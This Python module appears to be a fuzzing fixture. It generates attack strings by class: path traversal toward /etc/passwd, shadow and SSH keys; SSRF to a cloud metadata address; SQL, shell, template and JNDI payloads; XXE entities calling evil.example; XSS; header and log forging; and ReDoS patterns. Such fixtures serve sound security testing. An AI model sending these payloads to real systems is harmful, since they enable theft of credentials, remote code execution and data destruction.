"""Strings of attackers, by class: 200 that look like paths, 200 that another language could take for its own.

They are bytes: some are no UTF-8. What is percent-encoded here is meant to reach a server as it stands.
"""
import itertools

ESCAPE, PASSWD_LINK, LOOP = "escape", "passwd-link", "loop"  # links in a folder of pages: to /etc, to /etc/passwd, to itself
FILES = ("etc/passwd", "etc/shadow", "proc/self/environ", "root/.ssh/id_rsa")


def encoded(text):
    """Each byte as %xx."""
    return "".join(f"%{byte:02x}" for byte in text.encode())


def climbs(up, slash="/", depths=(1, 3, 8), files=FILES):
    """Paths that climb: `up` is one step."""
    return [up * depth + file.replace("/", slash) for depth, file in itertools.product(depths, files)]


def path_strings():
    """Class -> strings."""
    named = {
        "traversal": [*climbs("../"), "..", "../", "../..", "x/../../etc/passwd", "./../etc/passwd", "pick/../../processes.token"],
        "encoded": [*climbs("%2e%2e%2f", "%2f"), *climbs("..%2F", "%2F", (4,)), "%2e%2e", "%2e", "%2e%2e/", ".%2e/.%2e/etc/passwd"],
        "double encoded": [*climbs("%252e%252e%252f", "%252f"), "%25%32%65%25%32%65%2fetc%2fpasswd", "%252e%252e",
                           "..%252f..%252fetc%252fpasswd", "%25252e%25252e%25252fetc%25252fpasswd"],
        "backslashes": [*climbs("..\\", "\\", (1, 4)), *climbs("..%5c", "%5c", (2,)), "..\\/..\\/etc/passwd", "\\etc\\passwd",
                        "%5c%5c127.0.0.1%5cshare", "..%255c..%255cetc%255cpasswd"],
        "NUL": ["\0", "%00", "/etc/passwd\0", "../../etc/passwd%00.json", "pick%00", "pick\0.rcm.json", "%00/etc/passwd",
                "..\0/..\0/etc/passwd", "..%00/etc/passwd", "pick%2500"],
        "overlong": [b"\xc0\xae\xc0\xae\xc0\xafetc\xc0\xafpasswd", b"\xe0\x80\xae\xe0\x80\xae/etc/passwd", b"..\xc0\xafetc\xc0\xafpasswd",
                     b"\xf0\x80\x80\xafetc", b"\xc1\x9cetc", "%c0%ae%c0%ae%c0%afetc%c0%afpasswd", "%e0%80%ae%e0%80%ae%e0%80%afetc",
                     "%uff0e%uff0e%u2215etc%u2215passwd", "..%c1%9cetc%c1%9cpasswd", "..%f8%80%80%80%afetc"],
        "wide": ["\uff0e\uff0e\uff0fetc\uff0fpasswd", "..\u2215etc\u2215passwd", "..\u2044etc\u2044passwd", "\u2025/\u2025/etc/passwd",
                 "..\u29f8etc\u29f8passwd", "\u2024\u2024/etc/passwd", "..\uff3cetc\uff3cpasswd"],
        "absolute": ["/etc/passwd", "//etc/passwd", "///etc///passwd", "/etc/shadow", "/proc/self/environ", "/proc/self/fd/0",
                     "/proc/1/maps",
                     "/dev/null", "/dev/zero", "/dev/stdin", "/", "%2fetc%2fpasswd", "/./etc/./passwd", "/etc/passwd/", "/sys/kernel"],
        "URLs": ["file:///etc/passwd", "file://localhost/etc/passwd", "file:etc/passwd", "file%3a%2f%2f%2fetc%2fpasswd",
                 "http://127.0.0.1/",
                 "http://169.254.169.254/latest/meta-data/", "ftp://evil.example/x", "gopher://127.0.0.1:25/_x", "jar:file:///x!/y",
                 "php://filter/convert.base64-encode/resource=/etc/passwd", "data:text/plain,x", "\\\\evil.example\\share\\x",
                 "//evil.example/x"],
        "long": ["a" * 65, "a" * 256, "a" * 4096, "a" * 8000, "../" * 1000 + "etc/passwd", "%2e%2e%2f" * 500, "/" * 5000, "./" * 2000,
                 "a/" * 2000, "." * 4096, "%41" * 2000, "a" * 20000],
        "beside the path": ["pick?file=../../etc/passwd", "pick?x=/etc/passwd&name=..", "pick#../../etc/passwd", "pick;x=../../etc/passwd",
                            "..;/..;/etc/passwd", "pick&../../etc/passwd", "?..", "#", ";", "..?", "%3f../etc/passwd", "pick%23/etc"],
        "links": [ESCAPE, f"{ESCAPE}/passwd", PASSWD_LINK, f"{LOOP}/{LOOP}/x", LOOP, f"x/../{PASSWD_LINK}", f"{ESCAPE}%2fpasswd",
                  f"./{ESCAPE}/./shadow"],
        "kept files": ["processes.token", "../processes.token", "accounts.sqlite", "race.sqlite", "race.sqlite-wal", "lock",
                       "tls/authority.key",
                       "backups", "../backups/../processes.token", "..%2fprocesses.token", "digests.json"],
        "devices": ["CON", "NUL", "AUX", "PRN", "COM1", "LPT1", "CON.txt", "nul.json", "CLOCK$", "C:\\windows\\win.ini",
                    "C:/windows/win.ini",
                    "\\\\.\\C:", "\\\\?\\C:\\boot.ini", "pick::$DATA", "pick.", "PICK~1"],
        "dots": [".", "...", "....//....//etc/passwd", "..././..././etc/passwd", ". .", " ..", ".. ", "..%20", "..%09", ".%00.", ".hidden",
                 ".git/config", ".env"],
        "shells' paths": ["~", "~root/.ssh/id_rsa", "$HOME/.ssh/id_rsa", "${HOME}", "%HOME%", "*", "[a-z]*", "{etc,proc}/passwd", "-rf",
                          "--help",
                          "`pwd`", "/???/p?sswd", "/etc/pass\\wd", "@/etc/passwd", "|/bin/cat /etc/passwd", "<(cat /etc/passwd)",
                          "pick\n/etc/passwd",
                          "pick\r\n../etc/passwd", "pick\t"]}
    return {name: [as_bytes(text) for text in texts] for name, texts in named.items()}


def injection_strings():
    """Class -> strings. The one that a forged line of a log would begin with is FORGED; X-Injected would be a header."""
    split = ("\r\n", "\n", "\r", "%0d%0a", "\u560d\u560a", "\u2028", "\v", "\x85")
    named = {
        "SQL": ["' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE document; --", "\" OR \"\"=\"", "admin'--",
                "') UNION SELECT sql FROM sqlite_master --",
                "1; ATTACH DATABASE '/dev/shm/race-injected' AS x; --", "' || load_extension('/tmp/x') || '",
                "x' AND randomblob(1000000000) --",
                "1 OR 1", "\\' OR 1=1 --", "'/**/OR/**/1=1", "0x27204f522031", "; SELECT writefile('/dev/shm/race-injected','x')", "_%"],
        "shell": [";id", "; id > /dev/shm/race-injected", "|id", "||id", "&id", "&& id", "\nid\n", "x; touch /dev/shm/race-injected #",
                  "() { :;}; /bin/id",
                  "-o ProxyCommand=id", "a;sleep${IFS}9"],
        "substitution": ["$(id)", "$(touch /dev/shm/race-injected)", "${IFS}", "$((1+1))", "`id`", "`touch /dev/shm/race-injected`",
                         "${PATH}", "$0",
                         "%COMSPEC%", "<(id)", "$'\\x69\\x64'"],
        "format": ["%s%s%s%s%s%s", "%n%n%n%n", "%x.%x.%x.%x", "%1000000d", "%*.*f", "%99999999s", "{}", "{0}", "{:1000000}",
                   "{0.__class__.__mro__}",
                   "%p%p%p", "%hn", "\\x41%08x"],
        "header": [f"x{end}X-Injected: 1" for end in split] + [f"x{end}Set-Cookie: x=1{end}{end}<p>" for end in split[:4]] +
                  ["x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nX-Injected: 1\r\n\r\n", "x\r\nHost: evil.example",
                  "x\r\n\r\nGET /x HTTP/1.1\r\n\r\n"],
        "template": ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config}}", "{% import os %}{{os.system('id')}}", "*{7*7}", "@(7*7)",
                     "[[${7*7}]]",
                     "{{''.__class__.__mro__[1].__subclasses__()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
                     "${jndi:ldap://evil.example/x}"],
        "JSON": ["\"", "\\", "\",\"role\":\"admin", "\"}", "\"}}]}", "\\\"", "\\u0022", "\\ud800", "{\"$ref\":\"/etc/passwd\"}", "[]",
                 "null", "true",
                 "\",\"errors\":[],\"x\":\"", "__proto__", "constructor"],
        "JSONPath": ["$..*", "$[?(@.role=='admin')]", "$..[?(1==1)]", "@.length", "$['password']", "/-", "/0/~1", "~0~1", "#/components",
                     "..password"],
        "LDAP and XPath": ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*", "\\2a\\28\\29", "' or '1'='1' or ''='",
                           "//user[name='x' or 1=1]",
                           "count(//*)", "'] | //password | a['", "document('file:///etc/passwd')", "*", "(|(cn=*))"],
        "XML": ["<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "<?xml version='1.0'?><x/>", "<![CDATA[x]]>", "&lt;",
                "&#x0;", "]]>",
                "<!ENTITY % p SYSTEM 'http://evil.example/x'> %p;", "<xi:include href='/etc/passwd'/>", "&a;&a;&a;"],
        "script": ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=alert(1)>",
                   "';alert(1)//",
                   "</title><script>x</script>", "<iframe src=//evil.example>", "<!--#exec cmd='id'-->",
                   "data:text/html,<script>x</script>", "\u2028alert(1)"],
        "NUL": ["\0", "x\0", "\0x", "x\0x", "x%00x", "\\0", "\\x00", "\u2400", "\0" * 64, "x\0' OR 1=1"],
        "controls": [*("x" + character for character in "\x01\x08\t\x0b\x1b\x7f"), "\x80", "\x9b31m", "\x1b[2J\x1b[H", "\x1b]0;title\x07",
                     "\x07\x07"],
        "Unicode": ["\u202eexe.kcip", "\u2066x\u2069", "\ufeffx", "\u200bpick", "pi\u0441k", "\u212aelvin", "\ufb01le", "a\u0301" * 50,
                    "\U0001f916" * 20, "\ufffe",
                    "\uffff", "\U0010ffff", "\u0130\u0131", "\ufdfa" * 40],
        "log": [*(f"x{end}{FORGED}" for end in split[:7]), f"x\\n{FORGED}", "x\x1b[1A\x1b[2K", "x\b\b\b", f"x{' ' * 500}{FORGED}"],
        "task language": ["__import__('os').system('id')", "svc.robot.move('retreat')", "open('/etc/passwd').read()",
                          "().__class__.__bases__", "exec('x')",
                          "1/0", "while True: pass", "par.x = 1", "lambda: 0", "'" * 3],
        "numbers": ["-1", "0", "9223372036854775808", "-9223372036854775809", "18446744073709551616", "1e999", "NaN", "0x10", "1.5",
                    "1_000", "+1", " 1",
                    "\u0661", "00", "--1"],
        "patterns": ["(a+)+$", "(.*)*x", "[", "(?R)", "^(?=a)", "a{1000000}", ".*", "(?i)ADMIN", "(" * 500]}
    return {name: [as_bytes(text) for text in texts] for name, texts in named.items()}


FORGED = "2026-01-01T00:00:00.000Z error server: forged"


def as_bytes(text):
    return text if isinstance(text, bytes) else text.encode()
